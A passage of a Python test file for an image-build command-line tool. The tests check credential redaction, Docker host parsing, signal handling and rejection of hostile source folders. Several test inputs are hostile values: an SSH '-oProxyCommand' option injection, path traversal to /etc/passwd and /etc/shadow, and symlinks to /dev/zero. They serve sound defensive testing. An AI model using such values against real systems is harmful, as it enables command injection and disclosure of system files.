        with pytest.raises(ValueError, match="starting with '-'"):
            nodes._argv("-oProxyCommand=x")
    finally:
        nodes.close()


# --- no credentials in any error ----------------------------------------------------------------------------------

SECRET = "s3kr1t-t0ken"
# (arguments, environment, exit code); each names SECRET somewhere a message could quote it
CREDENTIALS: dict[str, tuple[list[str], dict[str, str], int]] = {
    "--cache-from type=registry,ref=": (
        ["build", "cpu", "--cache-from", f"type=registry,ref=u:{SECRET}@r.io/c"],
        {},
        2,
    ),
    "--cache-from USER:PASSWORD@": (["build", "cpu", "--cache-from", f"u:{SECRET}@r.io/c:1"], {}, 2),  # found
    "--cache-to https://USER:TOKEN@": (["build", "cpu", "--cache-to", f"https://u:{SECRET}@r.io/c:1"], {}, 2),  # found
    "--cache-to https://TOKEN@": (["build", "cpu", "--cache-to", f"https://{SECRET}@r.io/c:1"], {}, 2),  # found
    "--registry USER:PASSWORD@": (["push", "cpu", "--registry", f"u:{SECRET}@r.io"], {}, 2),
    "verify --host ssh://USER:PASSWORD@": (["verify", "cpu", "--host", f"ssh://u:{SECRET}@h"], {}, 11),  # found
    "DOCKER_HOST ssh password": (["build", "cpu"], {"DOCKER_HOST": f"ssh://u:{SECRET}@127.0.0.1:1"}, 8),  # found
    "DOCKER_HOST tcp password": (["build", "cpu"], {"DOCKER_HOST": f"tcp://u:{SECRET}@127.0.0.1:1"}, 8),  # found
    "doctor DOCKER_HOST password": (["doctor", "cpu", "--json"], {"DOCKER_HOST": f"tcp://u:{SECRET}@h:1"}, 13),  # found
    "bootstrap --mirror with a password": (
        ["base", "bootstrap", "debian:12", "--mirror", f"http://u:{SECRET}@m/debian x"],
        {},
        2,
    ),
    "an index URL with a password": (  # found: outdated's table and --json quoted the index page's URL
        ["outdated", "cpu", "--json"],
        {
            "IMGBUILD_INDEX_URL": f"http://u:{SECRET}@127.0.0.1:9/simple",
            "UV_DEFAULT_INDEX": f"http://u:{SECRET}@127.0.0.1:9/simple",
            "IMGBUILD_INDEX_DEADLINE": "5",
            "NO_PROXY": "127.0.0.1",
        },
        0,
    ),
}


@pytest.mark.parametrize("case", sorted(CREDENTIALS))
def test_no_error_prints_a_credential(case: str) -> None:
    args, env, code = CREDENTIALS[case]
    result = runner.invoke(app, args, env=env)
    clean(result)
    if code:
        assert result.exit_code == code, result.output[-2000:]
    assert SECRET not in result.output
    assert "***" in result.output or "credentials" in result.output or "password" in result.output, result.output


def test_redaction_keeps_what_is_no_secret() -> None:
    from imgbuild.core.validate import redact

    digest = "debian:bookworm@sha256:" + "a" * 64
    kept = [digest, "ssh://ubuntu@10.0.0.1:22", "pkg:pypi/torch@2.9.1", "r.io:5000/team/x:1", "a@b"]
    assert [redact(t) for t in kept] == kept
    assert redact("http://u:p%40ss@h/x and https://tok@h") == "http://u:***@h/x and https://***@h"


def test_redaction_takes_linear_time() -> None:
    """Every error is redacted when it is made, and one may quote megabytes of a log: no run of `:` or `@` makes
    the pattern try each place against the rest of the text (found: 100 000 characters of `a:` took 33 s)."""
    import time

    from imgbuild.core.validate import redact

    for text in ("a:" * 500_000, "a" * 500_000 + ":" + "b" * 500_000, "@:" * 500_000, ":@a" * 300_000):
        start = time.monotonic()
        redact(text)
        assert time.monotonic() - start < 5, text[:20]


# --- DOCKER_HOST: every documented form, and the malformed ones named -----------------------------------------------


def test_docker_host_ssh_is_reached_not_refused_for_want_of_paramiko() -> None:
    """docker-py needs paramiko for ssh://; a plain `pip install imgbuild` brings it (docker[ssh])."""
    result = runner.invoke(app, ["build", "cpu"], env={"DOCKER_HOST": "ssh://nobody@127.0.0.1:1"})
    clean(result)
    assert result.exit_code == 8, result.output
    assert "cannot reach the Docker engine at DOCKER_HOST=ssh://nobody@127.0.0.1:1" in flat(result.output)
    assert "paramiko" not in result.output  # found: "Install paramiko package to enable ssh:// support"


@pytest.mark.parametrize("host", ["tcp//x", "foo://", "tcp://h:70000", "ssh://", "tcp://[::1:2375"])
def test_doctor_names_a_malformed_docker_host_and_its_forms(host: str) -> None:
    result = runner.invoke(app, ["doctor", "cpu", "--json"], env={"DOCKER_HOST": host})
    clean(result)
    assert result.exit_code == 13, result.output[-2000:]
    doc = json.loads(result.stdout)
    engine_row = next(c for c in doc["checks"] if c["name"] == "engine")
    assert "engine" in doc["failed"] and engine_row["status"] == "missing"
    for form in ("unix:///", "tcp://HOST:PORT", "ssh://[USER@]HOST", "npipe://"):
        assert form in engine_row["detail"], engine_row["detail"]  # found: "no Docker engine answers at ..."


# --- every output option writes like `cluster report`'s -----------------------------------------------------------

JOB = ["cluster", "job", "cpu", "-e", "slurm", "-n", "2", "--image", "r.io/team/cpu:1"]


def test_an_output_path_relative_to_the_working_folder_is_written_whole(tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.chdir(tmp_path)
    result = runner.invoke(app, [*JOB, "-o", "job.sbatch", "--", "train.py"])
    clean(result)
    assert result.exit_code == 0, result.output
    assert "train.py" in (tmp_path / "job.sbatch").read_text()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["job.sbatch"]  # no temporary file beside it


@pytest.mark.parametrize("where", ["under /proc", "a missing folder", "a folder"])
def test_an_unwritable_output_is_exit_14_naming_it(tmp_path: Path, where: str) -> None:
    target = {"under /proc": "/proc/imgbuild-out", "a missing folder": str(tmp_path / "nope" / "x"),
              "a folder": str(tmp_path)}[where]  # fmt: skip
    result = runner.invoke(app, [*JOB, "-o", target, "--", "train.py"])
    clean(result)
    assert result.exit_code == 14, result.output  # found: exit 3 (RecipeError), or 1 for a folder
    assert f"{target}: cannot write the job" in flat(result.output)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.docker
def test_sources_fetch_into_an_unwritable_folder_is_exit_14(tmp_path: Path, docker_client) -> None:  # type: ignore[no-untyped-def]
    result = runner.invoke(app, ["sources", "fetch", "cpu", "-o", "/proc/imgbuild-sources"])
    clean(result)
    assert result.exit_code == 14, result.output  # found: exit 1 (PermissionError)
    assert "/proc/imgbuild-sources: cannot write the sources" in flat(result.output)


@pytest.mark.docker
def test_sbom_to_an_unwritable_path_is_exit_14(tmp_path: Path, cpu_image) -> None:  # type: ignore[no-untyped-def]
    result = runner.invoke(app, ["sbom", "cpu", "-o", "/proc/imgbuild.cdx.json"])
    clean(result)
    assert result.exit_code == 14, result.output  # found: exit 1
    assert "/proc/imgbuild.cdx.json: cannot write the SBOM" in flat(result.output)


# --- a black-holed index, and SIGTERM while the index is awaited -------------------------------------------------


class BlackHole:
    """A TCP server on 127.0.0.1 that accepts every connection and never answers."""

    def __init__(self) -> None:
        import socket

        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(128)
        self.url = f"http://127.0.0.1:{self.sock.getsockname()[1]}/simple"
        self.accepted = threading.Event()
        self.conns: list[Any] = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.conns.append(conn)
            self.accepted.set()

    def close(self) -> None:
        self.sock.close()
        for conn in self.conns:
            conn.close()


@pytest.fixture
def black_hole() -> Any:
    hole = BlackHole()
    yield hole
    hole.close()


def index_env(hole: BlackHole, tmp_path: Path, deadline: str) -> dict[str, str]:
    (tmp_path / "tmp").mkdir(exist_ok=True)
    return {
        **os.environ,
        "IMGBUILD_INDEX_URL": hole.url,
        "UV_DEFAULT_INDEX": hole.url,
        "UV_INDEX_URL": hole.url,
        "UV_CACHE_DIR": str(tmp_path / "uv-cache"),
        "IMGBUILD_INDEX_DEADLINE": deadline,
        "NO_PROXY": "127.0.0.1",
        "no_proxy": "127.0.0.1",
        "TMPDIR": str(tmp_path / "tmp"),  # uv's and imgbuild's temporary folders: all must be gone at the end
    }


def test_uv_meets_the_index_deadline_retries_included(tmp_path: Path, black_hole: BlackHole) -> None:
    """uv retries on its own (3 times, 30 s a request): with IMGBUILD_INDEX_DEADLINE=3 the lock ends by then."""
    import time

    shutil.copy(REPO / "recipes" / "cpu.yaml", tmp_path / "cpu.yaml")
    start = time.monotonic()
    done = subprocess.run(
        [sys.executable, "-m", "imgbuild", "lock", str(tmp_path / "cpu.yaml")],
        env=index_env(black_hole, tmp_path, "3"), capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    took = time.monotonic() - start
    assert done.returncode == 7, done.stderr[-2000:]
    assert "did not finish within 3 s (IMGBUILD_INDEX_DEADLINE=3)" in flat(done.stderr)  # found: 600 s
    assert black_hole.accepted.is_set() and took < 30, took
    assert not (tmp_path / "cpu.lock.json").exists() and list((tmp_path / "tmp").iterdir()) == []


@pytest.mark.parametrize(
    "command", [["lock"], ["lock", "--upgrade"], ["outdated"]], ids=["lock", "lock --upgrade", "outdated"]
)
def test_sigterm_while_the_index_is_awaited_leaves_the_recipe_and_lock_whole(
    tmp_path: Path, black_hole: BlackHole, command: list[str]
) -> None:
    """A real `imgbuild` process, SIGTERMed while uv (or the index lookup) waits on an index that never answers:
    exit 143, the recipe and its lock byte for byte as they were, no temporary file beside them or in TMPDIR."""
    import signal

    work = tmp_path / "recipes"
    work.mkdir()
    shutil.copy(REPO / "recipes" / "cpu.yaml", work / "cpu.yaml")
    shutil.copy(REPO / "recipes" / "cpu.lock.json", work / "cpu.lock.json")
    before = {p.name: p.read_bytes() for p in work.iterdir()}
    proc = subprocess.Popen(
        [sys.executable, "-m", "imgbuild", command[0], str(work / "cpu.yaml"), *command[1:]],
        env=index_env(black_hole, tmp_path, "300"), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        assert black_hole.accepted.wait(60), "the command never reached the index"
        proc.send_signal(signal.SIGTERM)
        _, stderr = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 143, stderr[-2000:]  # found: -15, killed where it stood
    assert "terminated (SIGTERM)" in stderr and "Traceback" not in stderr
    assert {p.name: p.read_bytes() for p in work.iterdir()} == before
    assert list((tmp_path / "tmp").iterdir()) == []


# --- what a sources folder names (`build --sources DIR`): checked before any engine work ------------------------


def _cpu_lock_digest() -> str:
    from imgbuild.image import identity
    from imgbuild.pin import lock

    return identity.lock_digest(lock.for_ref("cpu")[1])


def _index(d: Path, files: dict[str, str], bases: dict[str, Any] | None = None) -> None:
    data = {"format": 1, "recipe": "cpu", "lock_digest": _cpu_lock_digest(), "files": files, "bases": bases or {}}
    (d / "sources.json").write_text(json.dumps(data))


SHA = "0" * 64
BASE_ID = "sha256:" + "1" * 64
# case -> (what to make in the sources folder d, what the message says); every one is exit 16
SOURCES_CASES: dict[str, tuple[Callable[[Path], Any], str]] = {
    "sources.json a FIFO": (lambda d: _fifo(d / "sources.json"), "is a FIFO"),  # found: waited for a writer
    "sources.json a link to /dev/zero": (lambda d: (d / "sources.json").symlink_to("/dev/zero"), "outside"),  # found
    "sources.json 17 MiB (sparse)": (lambda d: _sparse(d / "sources.json", 17 << 20), "over the 16 MiB"),
    "sources.json a list": (lambda d: (d / "sources.json").write_text("[]"), "expected a JSON object"),
    "sources.json files a list": (
        lambda d: (d / "sources.json").write_text(
            '{"format": 1, "recipe": "cpu", "lock_digest": "x", "files": [], "bases": {}}'
        ),
        "files: expected an object",
    ),
    "an entry up and out": (lambda d: _index(d, {"files/../../../etc/passwd": SHA}), "expected a plain file name"),
    "an absolute entry": (
        lambda d: _index(d, {"/etc/shadow": SHA}),
        "expected a plain file name",
    ),  # found: read, hashed
    "an entry with a newline": (lambda d: _index(d, {"files/a\nb": SHA}), "expected a plain file name"),
    "a sha256 that is no hash": (lambda d: _index(d, {"files/a": "x"}), "expected a sha256 of 64 hex digits"),
    "a file linked out": (
        lambda d: ((d / "files").mkdir(), (d / "files" / "a").symlink_to("/etc/hostname"), _index(d, {"files/a": SHA})),
        "outside",
    ),  # found: /etc/hostname was read, hashed and would have been staged into the build context
    "a file that is a FIFO": (
        lambda d: ((d / "files").mkdir(), _fifo(d / "files" / "a"), _index(d, {"files/a": SHA})),
        "is a FIFO",
    ),  # found: "files/a is missing"
    "a file that is a folder": (
        lambda d: ((d / "files" / "a").mkdir(parents=True), _index(d, {"files/a": SHA})),
        "is a folder",
    ),
    "a file in a link loop": (
        lambda d: ((d / "files").mkdir(), (d / "files" / "a").symlink_to("a"), _index(d, {"files/a": SHA})),
        "symbolic link loop",
    ),
    "a base archive up and out": (
        lambda d: _index(d, {"base/x.tar": SHA}, {"debian:bookworm-slim": {"id": BASE_ID, "archive": "../x.tar"}}),
        "archive: expected base/NAME.tar",
    ),
    "a base that is an option": (
        lambda d: _index(d, {"base/x.tar": SHA}, {"--help": {"id": BASE_ID, "archive": "base/x.tar"}}),
        "expected a Docker image reference",
    ),
    "a base id that is no id": (
        lambda d: _index(d, {"base/x.tar": SHA}, {"debian:bookworm-slim": {"id": "latest", "archive": "base/x.tar"}}),
        "id: expected sha256:",
    ),
}


@pytest.mark.parametrize("case", sorted(SOURCES_CASES))
def test_hostile_sources_folders(tmp_path: Path, case: str) -> None:
    make, says = SOURCES_CASES[case]
    folder = tmp_path / "sources"
    folder.mkdir()
    make(folder)
    result = runner.invoke(app, ["build", "cpu", "--sources", str(folder)])
    clean(result)
    assert result.exit_code == 16, result.output[-2000:]
    assert says in flat(result.output), result.output[-2000:]


@pytest.mark.parametrize(
    ("make", "says"),
    [
        (lambda d: _fifo(d / "allow.txt"), "is a FIFO"),  # found: waited for a writer
        (lambda d: (d / "allow.txt").symlink_to("/dev/zero"), "is a device"),  # found: read forever
        (lambda d: _sparse(d / "allow.txt", 2 << 20), "over the 1 MiB"),
        (lambda d: (d / "allow.txt").mkdir(), "is a folder"),
    ],
    ids=["fifo", "dev-zero", "sparse-2MiB", "folder"],
)
def test_scan_gate_allow_files_that_are_no_allow_file(tmp_path: Path, make: Any, says: str) -> None:
    make(tmp_path)
    args = [
        "push",
        "cpu",
        "--registry",
        "127.0.0.1:5000",
        "--scan-gate",
        "HIGH",
        "--allow-file",
        str(tmp_path / "allow.txt"),
    ]
    result = runner.invoke(app, args)
    clean(result)
    assert result.exit_code == 2, result.output[-2000:]
    assert "allow file" in flat(result.output) and says in flat(result.output), result.output[-2000:]


def test_a_git_remote_named_like_an_option_is_read_as_a_name(tmp_path: Path) -> None:
    """The recipe's repository is the user's: its only remote may be named `-x`; git gets it after `--`."""
    from imgbuild.image import provenance

    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    subprocess.run(
        ["git", "-C", str(tmp_path), "remote", "add", "--", "-x", "https://example.com/team/x.git"], check=True
    )
    assert provenance._remote_url(tmp_path) == "https://example.com/team/x"  # found: None, git's "unknown switch"
